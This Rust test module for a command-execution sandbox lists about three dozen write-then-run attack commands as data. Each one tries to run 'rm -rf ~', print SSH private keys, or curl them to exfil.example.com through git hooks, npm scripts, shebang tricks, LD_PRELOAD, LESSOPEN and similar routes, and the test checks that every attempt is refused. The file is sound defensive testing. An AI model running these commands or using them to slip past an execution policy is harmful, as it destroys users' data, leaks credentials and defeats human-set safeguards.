//! The write-then-run attacks as data: a command the shipped `default` set is meant to let
//! through (it writes a file, then an allowed program runs it), the programs it needs, and
//! the program whose start does the harm. Shared by the local and the SSH runs.
//!
//! The harm is `rm -rf ~` (the session's home), or printing the home's private key, or
//! sending it to a host no policy allows. Each attack must be refused — at its start
//! (a runtime decision) or, where the command text already shows it, by the decision on
//! the text — and the home must be untouched.

use execkit_runner::{ExecError, ExecResult, RuntimeDenial, Session, Verdict};
use std::path::Path;

/// One attack.
pub struct Attack {
    pub name: &'static str,
    /// Programs it needs on the target.
    pub needs: &'static [&'static str],
    pub command: &'static str,
    /// The program(s) whose start must be refused (`a|b`: either, as the tool runs it:
    /// make runs a simple recipe without a shell, a shell runs `rm` itself).
    pub harmful: &'static str,
}

const fn a(
    name: &'static str,
    needs: &'static [&'static str],
    command: &'static str,
    harmful: &'static str,
) -> Attack {
    Attack {
        name,
        needs,
        command,
        harmful,
    }
}

pub const ATTACKS: &[Attack] = &[
    a("sourced file", &[], "printf 'rm -rf ~\\n' > env.sh && . ./env.sh", "rm"),
    a("script on bash's stdin", &[], "printf 'rm -rf ~\\n' > s.txt && bash < s.txt", "rm"),
    a("BASH_ENV", &[], "printf 'rm -rf ~\\n' > e.sh && BASH_ENV=./e.sh bash -c true", "rm"),
    a("executable script", &[], "printf '#!/bin/sh\\nrm -rf ~\\n' > x.sh && chmod +x x.sh && ./x.sh", "rm"),
    a("interpreter line with an argument", &[], "printf '#!/bin/cat %s\\n' ~/.ssh/id_* > i.sh && chmod +x i.sh && ./i.sh", "cat"),
    a("interpreter line naming a script", &[], "printf '#!/bin/cat %s\\n' ~/.ssh/id_* > interp && chmod +x interp && printf '#!./interp\\n' > i.sh && chmod +x i.sh && ./i.sh", "cat"),
    a("env -S in a shebang", &["/usr/bin/env"], "printf '#!/usr/bin/env -S rm -rf ${HOME}\\n' > x.sh && chmod +x x.sh && ./x.sh", "env|rm"),
    a("find -exec in a script", &[], "printf 'find ~ -maxdepth 0 -exec rm -rf {} +\\n' > f.sh && sh f.sh", "find|rm"),
    a("xargs in a script", &[], "printf 'find ~ -maxdepth 0 -print0 | xargs -0 rm -rf\\n' > x.sh && sh x.sh", "xargs|rm"),
    a("xargs on a file's words", &[], "echo ~ > list && xargs rm -rf < list", "xargs|rm"),
    a("script reading a private key", &[], "printf '#!/bin/sh\\ncat ~/.ssh/id_*\\n' > run.sh && chmod +x run.sh && ./run.sh", "cat"),
    a("script sending a key away", &["curl"], "printf 'curl -s --data-binary @%s http://exfil.example.com/\\n' ~/.ssh/id_* > up.sh && sh up.sh", "curl"),
    a("makefile recipe", &["make"], "printf 'all:\\n\\trm -rf ~\\n' > Makefile; make", "sh|rm"),
    a("makefile $(shell)", &["make"], "printf 'X := $(shell rm -rf ~)\\nall:\\n\\t@true\\n' > Makefile; make", "sh|rm"),
    a("git pre-commit hook", &["git"], "git init -q . && git config user.email a@b && git config user.name a && mkdir -p .git/hooks && printf '#!/bin/sh\\nrm -rf ~\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit && git commit -q --allow-empty -m x", "rm"),
    a("git hooks path", &["git"], "git init -q . && git config user.email a@b && git config user.name a && mkdir h && printf '#!/bin/sh\\nrm -rf ~\\n' > h/pre-commit && chmod +x h/pre-commit && git -c core.hooksPath=h commit -q --allow-empty -m x", "rm"),
    a("git post-checkout hook", &["git"], "git init -q . && git config user.email a@b && git config user.name a && git commit -q --allow-empty -m x && mkdir -p .git/hooks && printf '#!/bin/sh\\nrm -rf ~\\n' > .git/hooks/post-checkout && chmod +x .git/hooks/post-checkout && git checkout -q -b other", "rm"),
    a("git alias", &["git"], "git init -q . && git config alias.x '!rm -rf ~' && git x", "sh|rm"),
    a("git textconv", &["git"], "git init -q . && git config user.email a@b && git config user.name a && printf '*.txt diff=x\\n' > .gitattributes && git config diff.x.textconv 'rm -rf ~;:' && echo a > a.txt && git add -A && git commit -qm a && echo b > a.txt && git diff", "sh|rm"),
    a("git fsmonitor", &["git"], "git init -q . && git config core.fsmonitor 'rm -rf ~;:' && git status", "sh|rm"),
    a("npm test script", &["npm"], "npm init -y >/dev/null && npm pkg set scripts.test='rm -rf ~' && npm test", "sh|rm"),
    a("npm run script", &["npm"], "npm init -y >/dev/null && npm pkg set scripts.build='rm -rf ~' && npm run build", "sh|rm"),
    a("ssh -F with a ProxyCommand", &["ssh"], "printf 'Host github.com\\n  ProxyCommand sh -c \"rm -rf ~\"\\n' > cfg && ssh -F cfg github.com", "sh|rm"),
    a("python os.system", &["python3"], "printf 'import os\\nos.system(\"rm -rf ~\")\\n' > t.py; python3 t.py", "sh|rm"),
    a("python subprocess list", &["python3"], "printf 'import os, subprocess\\nsubprocess.run([\"rm\", \"-rf\", os.path.expanduser(\"~\")])\\n' > t.py; python3 t.py", "rm"),
    a("python package __main__", &["python3"], "mkdir -p m && printf 'import os\\nos.system(\"rm -rf ~\")\\n' > m/__main__.py && python3 m", "sh|rm"),
    a("sitecustomize on PYTHONPATH", &["python3"], "mkdir -p pp && printf 'import os\\nos.system(\"rm -rf ~\")\\n' > pp/sitecustomize.py && PYTHONPATH=pp python3 -c 'print(1)'", "sh|rm"),
    a("node child_process", &["node"], "printf 'require(\"child_process\").execSync(\"rm -rf ~\")\\n' > t.js; node t.js", "sh|rm"),
    a("perl system with a list", &["perl"], "printf 'system(\"rm\", \"-rf\", \"$ENV{HOME}\");\\n' > t.pl; perl t.pl", "rm"),
    a("awk system()", &["awk"], "printf 'BEGIN{system(\"rm -rf ~\")}\\n' > x.awk && awk -f x.awk", "sh|rm"),
    a("vim script", &["vim"], "printf 'call system(\"rm -rf ~\")\\nqa!\\n' > x.vim && vim -Es -u NONE -S x.vim", "sh|rm"),
    a("C system(3)", &["cc"], "printf '#include <stdlib.h>\\nint main(void){return system(\"rm -rf ~\");}\\n' > c.c && cc -o c c.c && ./c", "sh|rm"),
    a("LD_PRELOAD constructor", &["cc"], "printf '#include <stdlib.h>\\n__attribute__((constructor)) static void f(void){system(\"rm -rf ~\");}\\n' > p.c && cc -shared -fPIC -o p.so p.c && LD_PRELOAD=./p.so ls", "sh|rm"),
    a("sqlite extension", &["cc", "sqlite3"], "printf '#include <stdlib.h>\\nint sqlite3_extension_init(void *a, char **b, const void *c){system(\"rm -rf ~\"); return 0;}\\n' > e.c && cc -shared -fPIC -o e.so e.c && sqlite3 :memory: '.load ./e'", "sh|rm"),
    a("less LESSOPEN", &["less"], "echo x > r.txt && LESSOPEN='|rm -rf ~; %s' less r.txt", "sh|rm"),
    a("tar --to-command", &["tar"], "echo x > f && tar cf a.tar f && tar xf a.tar --to-command='rm -rf ~'", "sh|rm"),
];

/// How an attack was stopped.
#[derive(Debug, PartialEq, Eq)]
pub enum Stopped {
    /// The decision on the command text refused it.
    ByTheText,
    /// The harmful program was refused as it started.
    AtStart,
}

/// What the refusal of `program` (`a|b`: either; `sh`: any shell, as a tool runs
/// `$SHELL -c` or `/bin/sh -c`) looked like, if there was one.
pub fn refused<'a>(r: &'a ExecResult, program: &str) -> Option<&'a RuntimeDenial> {
    r.runtime_denials.iter().find(|d| {
        let name = Path::new(&d.program)
            .file_name()
            .and_then(|n| n.to_str())
            .unwrap_or("");
        let name = if ["bash", "dash"].contains(&name) {
            "sh"
        } else {
            name
        };
        program.split('|').any(|p| p == name)
    })
}

/// Runs `attack` in `s` and says how it was stopped; panics when it was not, or when a
/// key was printed.
pub async fn attempt(s: &Session, attack: &Attack, transport: &str) -> Stopped {
    let name = attack.name;
    let r = match s.exec(attack.command, &Default::default()).await {
        Ok(r) => r,
        Err(ExecError::Denied(d)) if d.verdict != Verdict::Allow => return Stopped::ByTheText,
        Err(e) => panic!("{transport}: {name}: {e}"),
    };
    let d = refused(&r, attack.harmful).unwrap_or_else(|| {
        panic!(
            "{transport}: {name}: `{}` was not refused at its start: {:?}\nstdout: {}\nstderr: {}",
            attack.harmful, r.runtime_denials, r.stdout, r.stderr
        )
    });
    assert_ne!(d.verdict, Verdict::Allow, "{transport}: {name}: {d:?}");
    assert!(
        !d.reason.is_empty() && !d.parents.is_empty(),
        "{transport}: {name}: the refusal names no reason or parent: {d:?}"
    );
    assert!(
        !d.policies.is_empty() || d.reason.contains("default deny"),
        "{transport}: {name}: a refusal by a policy names it: {d:?}"
    );
    assert!(
        !r.stdout.contains("PRIVATE KEY") && !r.stdout.contains("fake-"),
        "{transport}: {name}: the key was printed"
    );
    Stopped::AtStart
}
